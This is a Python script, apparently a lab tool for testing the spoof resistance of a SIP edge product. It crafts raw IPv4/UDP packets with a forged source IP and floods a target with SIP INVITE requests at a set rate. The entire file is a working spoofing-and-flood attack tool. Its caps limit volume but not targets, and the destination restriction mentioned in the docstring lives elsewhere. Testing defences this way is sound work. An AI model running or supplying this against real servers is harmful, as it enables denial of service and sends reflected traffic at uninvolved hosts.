#!/usr/bin/env python3
"""Forged-source INVITE flood for the edge lab: SIP over UDP whose IP source is somebody else's.

    forge-flood.py SOURCE_IP DEST_IP COUNT RATE

Builds each IPv4/UDP packet itself and sends it on a raw socket (IP_HDRINCL), so the edge sees
SOURCE_IP and sends its 407s there: the forger never learns a nonce or a tag, which is exactly
the gap callsentry's spoof resistance relies on. Bounded: COUNT packets at RATE per second,
both capped. Only the standard library; needs CAP_NET_RAW (root). Run it inside the attacker
namespace; the lab script refuses destinations outside the lab.
"""
import ipaddress
import os
import socket
import struct
import sys
import time

MAX_COUNT = 20000
MAX_RATE = 2000


def invite(src: str, dst: str, n: int) -> bytes:
    tag = os.urandom(4).hex()
    lines = [
        "INVITE sip:2000@edge.lab SIP/2.0",
        f"Via: SIP/2.0/UDP {src}:5060;rport;branch=z9hG4bK-forged-{tag}-{n}",
        "Max-Forwards: 70",
        f"From: <sip:105@edge.lab>;tag=f{tag}",
        "To: <sip:2000@edge.lab>",
        f"Call-ID: forged-{tag}-{n}@{src}",
        "CSeq: 1 INVITE",
        f"Contact: <sip:105@{src}:5060>",
        "User-Agent: callsentry-lab-phone",
        "Content-Length: 0",
        "",
        "",
    ]
    return "\r\n".join(lines).encode()


def packet(src: str, dst: str, payload: bytes) -> bytes:
    # UDP checksum 0 = none (allowed over IPv4); the kernel fills the IP checksum and total length
    udp = struct.pack("!HHHH", 5060, 5060, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main() -> int:
    if len(sys.argv) != 5:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    src, dst = str(ipaddress.IPv4Address(sys.argv[1])), str(ipaddress.IPv4Address(sys.argv[2]))
    count, rate = int(sys.argv[3]), int(sys.argv[4])
    if not (0 < count <= MAX_COUNT and 0 < rate <= MAX_RATE):
        print(f"COUNT must be 1..{MAX_COUNT} and RATE 1..{MAX_RATE}", file=sys.stderr)
        return 2
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for n in range(count):
        # paced against the start, so a slow send does not lower the average rate
        delay = start + n / rate - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        s.sendto(packet(src, dst, invite(src, dst, n)), (dst, 0))
    print(f"sent {count} forged INVITEs from {src} to {dst}:5060 in {time.monotonic() - start:.1f}s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
